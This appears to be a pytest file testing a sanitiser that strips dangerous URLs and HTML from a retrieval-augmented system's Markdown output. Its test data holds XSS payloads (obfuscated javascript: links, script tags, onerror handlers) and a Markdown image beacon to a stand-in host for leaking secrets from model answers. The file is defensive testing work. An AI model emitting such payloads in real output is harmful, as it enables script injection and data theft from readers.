"""rag/safe_text.py: the URL gate and the Markdown neutraliser every output format uses (issue 24 item 2).

The neutralised Markdown is rendered by a real CommonMark renderer (markdown-it, raw HTML enabled as the most
permissive renderer would have it) and the HTML it makes is inspected: that is what a reader's Markdown viewer,
a notes app or a static site would show."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.safe_text import checked_url, domain, md_escape, md_link, neutralise_markdown, safe_url, strip_active_html

RENDER = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
RENDER.validateLink = lambda url: True  # markdown-it refuses javascript: links itself; many renderers do not
MARKDOWN_TAGS = {"p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote", "h1", "h2", "h3", "h4",
                 "h5", "h6", "hr", "br", "s", "table", "thead", "tbody", "tr", "th", "td"}  # fmt: skip


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.links: list[list[str]] = []  # each <a>'s href and text
        self._in_a: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "a":
            self._in_a = [dict(attrs).get("href") or "", ""]
            self.links.append(self._in_a)

    def handle_endtag(self, tag: str) -> None:
        if tag == "a":
            self._in_a = None

    def handle_data(self, data: str) -> None:
        if self._in_a is not None:
            self._in_a[1] += data


def rendered(markdown: str) -> _Tags:
    parser = _Tags()
    parser.feed(RENDER.render(markdown))
    return parser


def assert_inert(markdown: str) -> None:
    """Rendered, the Markdown holds only Markdown's own tags, no image, and links only to http(s) URLs, each
    showing its domain."""
    html = rendered(markdown)
    assert {tag for tag, _ in html.tags} <= MARKDOWN_TAGS, (markdown, RENDER.render(markdown))
    for tag, attrs in html.tags:
        assert set(attrs) <= ({"href", "title"} if tag == "a" else {"class"} if tag == "code" else set()), attrs
    for href, text in html.links:
        assert urlsplit(href).scheme in ("http", "https"), (href, markdown)
        assert text == urlsplit(href).hostname, (href, text, markdown)


# ---- the URL gate


@pytest.mark.parametrize("url", [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "DATA:image/png;base64,AAAA",
    "vbscript:msgbox(1)", "file:///etc/passwd", "ftp://example.org/x", "//evil.example/x", "https:evil.example",
    "http:\\\\evil.example", "http://", "https://exa mple.org/", "https://ex\x00ample.org/", "/relative/path",
    "mailto:a@b.c", 'https://ok.example/" onmouseover="x', "https://ok.example/<script>", "", None, 42,
])  # fmt: skip
def test_only_absolute_http_urls_pass(url: object) -> None:
    assert safe_url(url) is None


@pytest.mark.parametrize(("url", "safe"), [
    ("https://arxiv.org/abs/2410.09032", "https://arxiv.org/abs/2410.09032"),
    ("  HTTPS://ArXiv.org/abs/1  ", "https://arxiv.org/abs/1"),
    ("https://example.org/a_b%20c#frag&x=1", "https://example.org/a_b%20c#frag&x=1"),
    ("https://openreview.net/forum?id=wptlUkP48t", "https://openreview.net/forum?id=wptlUkP48t"),
    ("https://user:secret@evil.example:8080/x", "https://evil.example:8080/x"),  # credentials never shown
    ("https://en.wikipedia.org/wiki/A_(b)'[c]", "https://en.wikipedia.org/wiki/A_%28b%29%27%5Bc%5D"),
    ("https://bücher.example/ö", "https://xn--bcher-kva.example/%C3%B6"),
    ("http://[::1]:8000/x", "http://[::1]:8000/x"),
    ("https://x.org/?a=1&amp;b=2", "https://x.org/?a=1&b=2"),
])  # fmt: skip
def test_http_urls_come_out_safe_to_put_in_a_link(url: str, safe: str) -> None:
    assert safe_url(url) == safe
    assert md_link(url) == f"[{md_escape(domain(safe))}]({safe})"
    assert_inert(f"see {md_link(url)} now")


URL_SAFE_PIECES = ["/", "a", "%20", "%zz", "?", "q=1", "#", "frag", "@", "~", ":", "!", "*", "$", ";", ",", "=", "+"]
URL_ODD_PIECES = ["&", "amp;", "(", ")", "'", " ", "é", "[", "]", "\\", '"', "<", "\t"]
URLISH = st.builds(
    lambda scheme, host, rest: f"{scheme}://{host}{rest}",
    st.sampled_from(["http", "https", "HTTP", "hTtps", "javascript", "ftp"]),
    st.sampled_from(["arxiv.org", "a-b.example", "x", "A.org", "xn--bcher-kva.example", "127.0.0.1", "user:pw@h.org",
                     "h.org:8080", "h.org:99999", "-a.org", "a..org", "bücher.de", "a.org.", "[::1]"]),
    st.one_of(st.lists(st.sampled_from(URL_SAFE_PIECES), max_size=10),
              st.lists(st.sampled_from(URL_SAFE_PIECES + URL_ODD_PIECES), max_size=10)).map("".join),
)  # fmt: skip


@settings(max_examples=500, deadline=None)
@given(URLISH)
def test_the_quick_path_gives_what_the_long_way_gives(url: str) -> None:
    assert safe_url(url) == checked_url(url)


# ---- model text


HOSTILE = (
    "The Alberta dataset has over 213,000 wells [1]. ![x](http://evil.example/?d=secret) "
    "<script>alert(1)</script> [click](javascript:alert(1)) <img src=x onerror=alert(2)>\n\n"
    "See [the paper](https://arxiv.org/abs/2410.09032), <https://github.com/a/b>, <JaVaScRiPt:alert(3)>, "
    "[data](data:text/html,<b>x</b>) and <a@b.example>.\n\n[1]: javascript:alert(4)\n<!-- hidden -->"
)


def test_a_hostile_answer_keeps_its_text_and_loses_its_weapons() -> None:
    out = neutralise_markdown(HOSTILE)
    assert out.startswith("The Alberta dataset has over 213,000 wells [1]. (image not shown: x) ")
    assert "evil.example" not in out and "secret" not in out  # the beacon's URL is gone, not made a link
    assert "See the paper ([arxiv.org](https://arxiv.org/abs/2410.09032)), [github.com](https://github.com/a/b)" in out
    assert "click \\<img" in out and "(link removed)" in out and "javascript:alert(1)" not in out
    assert_inert(out)
    html = rendered(out)
    assert [text for _, text in html.links] == ["arxiv.org", "github.com"]
    assert "<script>" in RENDER.render(HOSTILE) and "<script>" not in RENDER.render(out)  # the renderer would run it


def test_citation_markers_survive_as_markers() -> None:
    assert neutralise_markdown("A [1](javascript:x) and B [2](https://arxiv.org/x).") == (
        "A [1] and B [2] ([arxiv.org](https://arxiv.org/x)).")


def test_ordinary_markdown_is_left_alone() -> None:
    text = ("**Two** findings [1][2]:\n\n- p<0.05 and a ratio 3:1 [1]\n- tumour size (<or=3cm vs>3cm) [2]\n\n"
            "`code` and _emphasis_, [1, 2] and [Source 3].")  # fmt: skip
    assert neutralise_markdown(text) == text


SAFE_CHARS = st.text(st.characters(blacklist_characters="<\ue000\ue001", blacklist_categories=("Cs",)), max_size=200)


@settings(max_examples=300, deadline=None)
@given(SAFE_CHARS)
def test_text_without_markup_openings_is_unchanged(text: str) -> None:
    if "](" not in text and "]:" not in text:
        assert neutralise_markdown(text) == text


PIECES = st.sampled_from([
    "![x](http://evil.example/?d=1)", "[c](javascript:alert(1))", "[c](<javascript:x>)", "<script>", "</script>",
    "<img src=x onerror=alert(1)>", "<https://a.example/x>", "<javascript:x>", "[1]: javascript:x", "[x]: <data:x>",
    "\n", "\n\n", " ", "[", "]", "(", ")", "<", ">", "!", "\\", "`", "*", "_", "[1]", "&#106;avascript:", "&lt;",
    "JaVaScRiPt:", "http://e.example", "<a@b.example>", "<!--", "-->", ":", '"', "'", "    ", "- ", "1. ", "> ",
    "<div>", "<svg/onload=alert(1)>", "[a](https://good.example/p)", "[a](https://u:p@good.example)", "x", "](",
    "<iframe src=javascript:x>", "<a href=javascript:x>y</a>", "<?php", "<![CDATA[", "[![i](http://e/?d)](http://g)",
])  # fmt: skip


@pytest.mark.parametrize("text", ["<JaVaScRiPt:<https://a.example/x>-->", "<http://e.example<https://a.example/x>-->"])
def test_a_link_put_back_does_not_close_an_autolink_around_it(text: str) -> None:
    """Found by the property test below: the inner autolink became a Markdown link, and the outer "<scheme:" and the
    text's ">" then made one autolink of it all (to javascript:, or showing the whole URL)."""
    out = neutralise_markdown(text)
    assert_inert(out)
    assert [href for href, _ in rendered(out).links] == ["https://a.example/x"]


@pytest.mark.parametrize(("text", "href"), [
    (">[1]: javascript:x\n[1] and [1]", None),  # a reference definition inside a block quote
    ("1. [a]: javascript:x\n\n[a]", None),  # ... and inside a list item
    ("\\\\<https://a.example/x>", "https://a.example/x"),  # an escaped backslash does not escape the link after it
])
def test_definitions_in_containers_and_links_after_escaped_backslashes(text: str, href: str | None) -> None:
    out = neutralise_markdown(text)
    assert_inert(out)
    assert [h for h, _ in rendered(out).links] == ([href] if href else [])
    assert neutralise_markdown(out) == out


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(PIECES, max_size=30).map("".join))
def test_any_mix_of_hostile_pieces_renders_inert(text: str) -> None:
    out = neutralise_markdown(text)
    assert_inert(out)
    assert neutralise_markdown(out) == out  # neutral text stays as it is: applying it twice is harmless


# ---- metadata text


def test_metadata_is_literal_text() -> None:
    title = "<script>alert(1)</script> [x](javascript:alert(1)) ![i](http://evil.example/?d=1) *bold* <img src=x>"
    out = md_escape(title)
    assert_inert(out)
    assert rendered(out).links == [] and "evil.example" in RENDER.render(out)  # shown as text, not loaded


def test_active_html_is_stripped_and_inert_tags_stay() -> None:
    text = ("A <i>E. coli</i> study of the <unk> token and H<sub>2</sub>O <script>alert(1)</script> "
            "<img src=x onerror=alert(2)> <a href='javascript:x'>y</a> <b onclick=x>z</b> <!-- c --> a<b")
    assert strip_active_html(text) == (
        "A <i>E. coli</i> study of the <unk> token and H<sub>2</sub>O alert(1)  y z</b>  a<b")
    nested = "<scr<script>ipt>alert(1)</scr</script>ipt> <<img src=x>img src=y onerror=z>"  # past a one-pass filter
    assert strip_active_html(nested) == "alert(1) "
